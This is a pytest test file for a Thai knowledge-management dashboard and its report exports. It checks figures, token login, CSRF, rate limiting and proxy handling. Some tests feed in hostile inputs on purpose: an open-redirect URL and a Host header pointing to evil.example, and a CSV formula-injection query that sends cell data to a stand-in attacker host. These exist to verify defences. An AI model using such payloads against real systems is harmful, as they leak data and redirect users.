"""/km and `kmsearch report`: what the committee sees, who may see search
terms, and that the report's numbers are the ones recorded."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from click.testing import CliRunner

from kmsearch.cli import cli
from tests.corpus import write_corpus
from tests.sites import on_backend
from tests.visible import unbreak

pytestmark = pytest.mark.both_backends  # tests/conftest.py: each test that builds a site, on both engines

TOKEN = "s3cret-committee-token"
IN_2567 = dt.datetime(2024, 3, 12, 10, 30)


def text(resp) -> str:
    return unbreak(resp.get_data(as_text=True))


@pytest.fixture
def db(tmp_path):
    return tmp_path / "usage.sqlite3"


def traffic(app, client):
    """Views and searches as if made on 12 March 2024 (ปีงบประมาณ 2567)."""
    app.extensions["kmsearch.usage"].clock = lambda: IN_2567
    for _ in range(3):
        client.get("/a/land-tax-manual")
    client.get("/a/child-center-training")
    client.get("/api/articles/egp-regulation")
    client.get("/search", query_string={"q": "ภาษีที่ดิน"})
    client.get("/search", query_string={"q": "ภาษีที่ดิน"})
    client.get("/search", query_string={"q": "ดาวอังคาร"})
    client.get("/api/search", query_string={"q": "ดาวอังคาร"})


def test_dashboard_without_token_shows_counts_not_search_terms(make_app, db):
    app = make_app(USAGE_DB=str(db))
    client = app.test_client()
    traffic(app, client)
    resp = client.get("/km?year=2567")
    body = text(resp)
    assert resp.status_code == 200 and 'lang="th"' in body
    assert "ตัวชี้วัดการจัดการความรู้ ปีงบประมาณ 2567" in body and "1 ต.ค. 2566 – 30 ก.ย. 2567" in body
    assert "ร้อยละ 50.0" in body and "2 จาก 3 กอง" in body
    assert "9 ครั้ง" in body  # 5 views + 4 searches
    assert "ไม่พบเอกสาร 2 ครั้ง" in body
    assert "ดาวอังคาร" not in body and "ภาษีที่ดิน</a></th>" not in body
    assert "KMSEARCH_KM_TOKEN" in body
    assert resp.headers["Cache-Control"] == "no-store"
    md = text(client.get("/km/report.md?year=2567"))
    assert "ดาวอังคาร" not in md and "ค้นหา 4 ครั้ง ไม่พบผลลัพธ์ 2 ครั้ง" in md


def test_dashboard_sections(make_app, db):
    app = make_app(USAGE_DB=str(db))
    client = app.test_client()
    traffic(app, client)
    body = text(client.get("/km?year=2567"))
    for heading in (
        "ตัวชี้วัดตามแผนการจัดการความรู้",
        "เอกสารในคลังความรู้",
        "คู่มือการปฏิบัติงาน",
        "แผนที่องค์ความรู้ (แบบฟอร์มที่ 1)",
        "เอกสารที่สร้างและปรับปรุงในปี",
        "การเข้าถึงฐานข้อมูลความรู้",
        "คำค้นและความรู้ที่ยังขาด",
        "ทำเนียบผู้รู้",
    ):
        assert heading in body, heading
    assert "ยังไม่มีคู่มือการปฏิบัติงาน:</strong> กองการศึกษา ศาสนาและวัฒนธรรม" in body
    assert 'href="/a/child-center-training"' in body
    assert "นางบุญมา ศรีสุข (ปราชญ์ชาวบ้าน)" in body
    assert "<svg" in body and "การอ่านบทความและการค้นหารายเดือน" in body
    # Nothing inline for the Content-Security-Policy to block.
    assert not re.search(r"<script(?![^>]*\bsrc=)", body) and not re.search(r"\sstyle=", body) and "<style" not in body


def test_year_and_division_parameters(make_app, db):
    client = make_app(USAGE_DB=str(db)).test_client()
    assert "ปีงบประมาณ 2567" in text(client.get("/km?year=2024"))  # Common Era accepted
    assert "ปีงบประมาณ 2567" in text(client.get("/km?year=๒๕๖๗"))
    assert client.get("/km?year=67").status_code == 400
    assert client.get("/km?division=nowhere").status_code == 400
    body = text(client.get("/km?year=2567&division=education"))
    assert "ปีงบประมาณ 2567 · กองการศึกษา ศาสนาและวัฒนธรรม" in body
    assert "การพัฒนาด้านการศึกษา" in body and "การพัฒนาด้านการบริหารงานคลัง" not in body
    current = client.get("/km")
    assert current.status_code == 200 and "ตัวชี้วัดการจัดการความรู้ ปีงบประมาณ" in text(current)


def test_home_links_to_the_dashboard(client):
    assert 'href="/km"' in text(client.get("/"))


def test_token_protects_dashboard_and_shows_search_terms_to_the_committee(make_app, db):
    app = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN)
    client = app.test_client()
    traffic(app, client)
    resp = client.get("/km?year=2567")
    assert resp.status_code == 302 and "/km/login" in resp.headers["Location"]
    assert client.get("/km/report.csv?year=2567").status_code == 401

    bad = client.post("/km/login", data={"token": "wrong", "next": "/km?year=2567"})
    assert bad.status_code == 401 and "รหัสไม่ถูกต้อง" in text(bad)
    ok = client.post("/km/login", data={"token": TOKEN, "next": "/km?year=2567"})
    assert ok.status_code == 303 and ok.headers["Location"] == "/km?year=2567"
    cookie = ok.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/km" in cookie and TOKEN not in cookie

    body = text(client.get("/km?year=2567"))
    assert "คำค้นยอดนิยม" in body and "ดาวอังคาร" in body and "ภาษีที่ดิน" in body
    assert "ออกจากระบบ" in body
    csrf = re.search(r'name="csrf" value="([0-9a-f]{64})"', body)[1]
    assert client.post("/km/logout").status_code == 403  # as another site's form would
    assert client.get("/km?year=2567").status_code == 200
    client.post("/km/logout", data={"csrf": csrf})
    assert client.get("/km?year=2567").status_code == 302


def test_bearer_token_for_scripts_and_no_open_redirect(make_app, db):
    app = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN)
    client = app.test_client()
    traffic(app, client)
    resp = client.get("/km/report.md?year=2567", headers={"Authorization": f"Bearer {TOKEN}"})
    assert resp.status_code == 200 and "ดาวอังคาร" in text(resp)
    assert client.get("/km/report.md", headers={"Authorization": "Bearer nope"}).status_code == 401
    away = client.post("/km/login", data={"token": TOKEN, "next": "https://evil.example/km"})
    assert away.headers["Location"] == "/km"


def test_downloads(make_app, db):
    app = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN)
    client = app.test_client()
    traffic(app, client)
    auth = {"Authorization": f"Bearer {TOKEN}"}
    html = client.get("/km/report.html?year=2567&division=finance", headers=auth)
    assert html.headers["Content-Disposition"] == 'attachment; filename="km-report-2567-finance.html"'
    page = text(html)
    assert page.startswith("<!doctype html>") and '<html lang="th">' in page
    assert "size: A4" in page and "<script" not in page
    assert "รายงานผลการดำเนินงานตามแผนการจัดการความรู้ ปีงบประมาณ 2567" in page and "กองคลัง" in page
    assert 'href="http://localhost/a/land-tax-manual"' in page  # links work from the downloaded file
    csv_resp = client.get("/km/report.csv?year=2567", headers=auth)
    assert csv_resp.headers["Content-Type"].startswith("text/csv") and csv_resp.data.startswith(b"\xef\xbb\xbf")
    word = client.get("/km/report.docx?year=2567", headers=auth)
    assert word.headers["Content-Disposition"] == 'attachment; filename="km-report-2567.docx"'
    assert word.headers["Content-Type"].startswith("application/vnd.openxmlformats-officedocument")
    assert word.data.startswith(b"PK")  # a zip: what Word opens
    dashboard = text(client.get("/km?year=2567", headers=auth))
    assert 'href="/km/report.docx?year=2567" download>Word</a>' in dashboard
    assert client.get("/km/report.pdf", headers=auth).status_code == 404


def csv_figures(text_: str) -> dict:
    rows = list(csv.reader(io.StringIO(text_.lstrip("\ufeff"))))
    return {(r[0], r[1], r[2]): r[3] for r in rows[1:]}


def test_cli_report_numbers_equal_what_was_recorded(make_app, built, db, tmp_path):
    app = make_app(USAGE_DB=str(db))
    client = app.test_client()
    traffic(app, client)
    # Noise outside the year: the day after it ends.
    app.extensions["kmsearch.usage"].clock = lambda: dt.datetime(2024, 10, 1, 0, 0, 1)
    client.get("/a/land-tax-manual")
    client.get("/search", query_string={"q": "ดาวอังคาร"})

    args = ["report", "--content", built["CONTENT_DIR"], "--index", built["INDEX_DIR"], "--usage-db", str(db)]
    result = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567", "--format", "csv"])
    assert result.exit_code == 0, result.output
    f = csv_figures(result.output)
    assert f[("การเข้าถึง", "อ่านบทความ", "")] == "5"
    assert f[("การเข้าถึง", "ค้นหา", "")] == "4"
    assert f[("การเข้าถึง", "ค้นหาแล้วไม่พบผลลัพธ์", "")] == "2"
    assert f[("ตัวชี้วัด", "จำนวนการเข้าถึงฐานข้อมูลความรู้", "")] == "9"
    assert f[("การอ่านตามบทความ", "คู่มือการจัดเก็บภาษีที่ดินและสิ่งปลูกสร้าง", "")] == "3"
    assert f[("การอ่านตามส่วนราชการ", "กองคลัง", "กองคลัง")] == "4"  # 3 web + 1 API read of e-GP
    assert f[("การเข้าถึงรายเดือน", "มี.ค. 67", "")] == "5"
    assert f[("คำค้นยอดนิยม", "ภาษีที่ดิน", "")] == "2"
    assert f[("คำค้นที่ไม่พบเอกสาร", "ดาวอังคาร", "")] == "2"
    assert f[("ตัวชี้วัด", "ร้อยละของฐานข้อมูลที่เสร็จเรียบร้อย", "")] == "50.0"

    ce = CliRunner().invoke(cli, [*args, "--fiscal-year", "2024", "--format", "csv"])
    assert ce.exit_code == 0 and ce.output == result.output  # 2024 is the same year as 2567
    nxt = csv_figures(CliRunner().invoke(cli, [*args, "--fiscal-year", "2568", "--format", "csv"]).output)
    assert nxt[("การเข้าถึง", "อ่านบทความ", "")] == "1" and nxt[("คำค้นที่ไม่พบเอกสาร", "ดาวอังคาร", "")] == "1"

    md = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567"])
    assert "รวม 9 ครั้ง (อ่านบทความ 5; ค้นหา 4)" in md.output and "- ดาวอังคาร — ครั้ง: 2" in md.output
    hidden = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567", "--no-queries"])
    assert "ดาวอังคาร" not in hidden.output

    out = tmp_path / "report.html"
    html = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567", "--format", "html", "-o", str(out)])
    assert html.exit_code == 0, html.output
    page = out.read_text(encoding="utf-8")
    assert '<html lang="th">' in page and "ร้อยละ 50.0" in page and "ดาวอังคาร" in page
    # One file: its fonts are inside it, none points at a file beside it.
    assert "url(fonts/" not in page and page.count("url(data:font/woff2;base64,") == 6
    assert "counter(page, thai)" in page and "font-size: 16pt" in page

    docx_file = tmp_path / "report.docx"
    word = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567", "--format", "docx", "-o", str(docx_file)])
    assert word.exit_code == 0, word.output
    import docx

    doc = docx.Document(str(docx_file))
    cells = [[c.text for c in row.cells] for t in doc.tables for row in t.rows]
    assert ["จำนวนการเข้าถึงฐานข้อมูลความรู้", "9 ครั้ง"] == cells[3][:2]
    assert ["ดาวอังคาร", "2", "2"] in cells
    no_file = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567", "--format", "docx"])
    assert no_file.exit_code != 0 and "--output" in no_file.output


def test_cli_report_errors(built, backend, cluster, tmp_path):
    args = ["report", "--content", built["CONTENT_DIR"], "--usage-db", str(tmp_path / "u.db")]
    bad_year = CliRunner().invoke(cli, [*args, "--index", built["INDEX_DIR"], "--fiscal-year", "67"])
    assert bad_year.exit_code == 1 and "2567" in bad_year.output
    # no build yet: an empty index folder (Whoosh), an office slug never built (OpenSearch:
    # the folder holds only the lock, the cluster the index)
    unbuilt = on_backend(write_corpus(tmp_path / "unbuilt"), backend, cluster)
    no_index = CliRunner().invoke(
        cli,
        ["report", "--content", str(unbuilt), "--usage-db", str(tmp_path / "u.db")]
        + ["--index", str(tmp_path / "none"), "--fiscal-year", "2567"],
    )
    assert no_index.exit_code == 1 and "kmsearch build" in no_index.output
    bad_division = CliRunner().invoke(cli, [*args, "--index", built["INDEX_DIR"], "--division", "nowhere"])
    assert bad_division.exit_code == 1 and "nowhere" in bad_division.output
    assert not (tmp_path / "u.db").exists(), "a report never creates the log"


def test_report_links_use_the_public_address_not_the_host_header(make_app, db):
    client = make_app(USAGE_DB=str(db), PUBLIC_URL="https://km.example.go.th/").test_client()
    page = text(client.get("/km/report.html?year=2567", headers={"Host": "evil.example"}))
    links = re.findall(r'href="([^"]*)"', page)
    assert 'href="https://km.example.go.th/a/land-tax-manual"' in page
    assert links and all(h.startswith(("https://km.example.go.th/", "#")) for h in links), links
    assert "evil.example" not in page


def test_cli_csv_report_neutralises_a_formula_query(make_app, built, db):
    app = make_app(USAGE_DB=str(db))
    app.extensions["kmsearch.usage"].clock = lambda: IN_2567
    app.test_client().get("/search", query_string={"q": '=HYPERLINK("http://evil.example/?leak="&A1,"x")'})
    result = CliRunner().invoke(
        cli,
        [
            "report",
            "--content",
            built["CONTENT_DIR"],
            "--index",
            built["INDEX_DIR"],
            "--usage-db",
            str(db),
            "--fiscal-year",
            "2567",
            "--format",
            "csv",
        ],
    )
    rows = list(csv.reader(io.StringIO(result.output.lstrip("\ufeff"))))
    assert ["คำค้นที่ไม่พบเอกสาร", '\'=hyperlink("http://evil.example/?leak="&a1,"x")', "", "1", ""] in rows
    md = (
        CliRunner()
        .invoke(
            cli,
            [
                "report",
                "--content",
                built["CONTENT_DIR"],
                "--index",
                built["INDEX_DIR"],
                "--usage-db",
                str(db),
                "--fiscal-year",
                "2567",
            ],
        )
        .output
    )
    assert '- =hyperlink("http://evil.example/?leak="&a1,"x") — ครั้ง: 1' in md


def test_sign_out_needs_the_form_of_the_dashboard(make_app, db):
    client = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN).test_client()
    client.post("/km/login", data={"token": TOKEN})
    forged = client.post("/km/logout", data={"csrf": "0" * 64}, headers={"Origin": "https://evil.example"})
    assert forged.status_code == 403 and "ออกจากระบบได้จากปุ่มในหน้าตัวชี้วัดเท่านั้น" in text(forged)
    assert "Set-Cookie" not in forged.headers
    assert client.get("/km").status_code == 200, "still signed in"


def test_sign_in_guesses_are_slowed_per_address(make_app, db):
    app = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN)
    now = [1000.0]
    app.extensions["kmsearch.logins"].clock = lambda: now[0]
    client = app.test_client()
    here, there = {"REMOTE_ADDR": "192.0.2.1"}, {"REMOTE_ADDR": "192.0.2.2"}
    statuses = [client.post("/km/login", data={"token": f"guess{i}"}, environ_base=here).status_code for i in range(8)]
    assert statuses[:5] == [401] * 5 and statuses[6:] == [429, 429]
    refused = client.post("/km/login", data={"token": TOKEN}, environ_base=here)
    assert refused.status_code == 429, "not even the right token while waiting"
    assert refused.headers["Retry-After"] == "1" and "กรุณารอ 1 วินาที" in text(refused)
    assert client.post("/km/login", data={"token": "x"}, environ_base=there).status_code == 401, "per address"
    now[0] += 1.5
    assert client.post("/km/login", data={"token": "guess8"}, environ_base=here).status_code == 401
    assert client.post("/km/login", data={"token": "guess9"}, environ_base=here).headers["Retry-After"] == "2"
    now[0] += 2.5
    ok = client.post("/km/login", data={"token": TOKEN}, environ_base=here)
    assert ok.status_code == 303


def test_behind_trusted_proxies_the_limit_is_per_forwarded_client(make_app, db):
    def guesses(client, forwarded_for):
        return [
            client.post(
                "/km/login",
                data={"token": "wrong"},
                environ_base={"REMOTE_ADDR": "10.0.0.1"},
                headers={"X-Forwarded-For": forwarded_for},
            ).status_code
            for _ in range(6)
        ]

    direct = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN).test_client()
    assert guesses(direct, "203.0.113.1")[-1] == 429
    assert guesses(direct, "203.0.113.2")[0] == 429, "without PROXIES a forwarded address is not believed"

    proxied = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN, PROXIES=1).test_client()
    assert guesses(proxied, "203.0.113.1")[-1] == 429
    assert guesses(proxied, "203.0.113.2")[0] == 401, "another client behind the same proxy may still sign in"
    ok = proxied.post(
        "/km/login",
        data={"token": TOKEN},
        environ_base={"REMOTE_ADDR": "10.0.0.1"},
        headers={"X-Forwarded-For": "203.0.113.3", "X-Forwarded-Proto": "https"},
    )
    assert ok.status_code == 303 and "Secure" in ok.headers["Set-Cookie"]
    assert ok.headers["Strict-Transport-Security"].startswith("max-age=")


def test_km_reads_the_documents_once_a_build_and_never_their_bodies(make_app, built, monkeypatch):
    from indexer import engine

    with engine.backend_for(built["CONTENT_DIR"], built["INDEX_DIR"]).open() as ix:
        opened = type(ix)  # the backend's SearchIndex
    reads = []
    original = opened.all
    monkeypatch.setattr(opened, "all", lambda self: reads.append(1) or original(self))
    app = make_app()
    client = app.test_client()
    for _ in range(3):
        assert client.get("/km").status_code == 200
    assert len(reads) == 1, "the catalogue of a build is read once"
    kept = app.extensions["kmsearch"]._catalogue[1]
    assert kept and not any({"body", "html", "content"} & set(row) for row in kept)
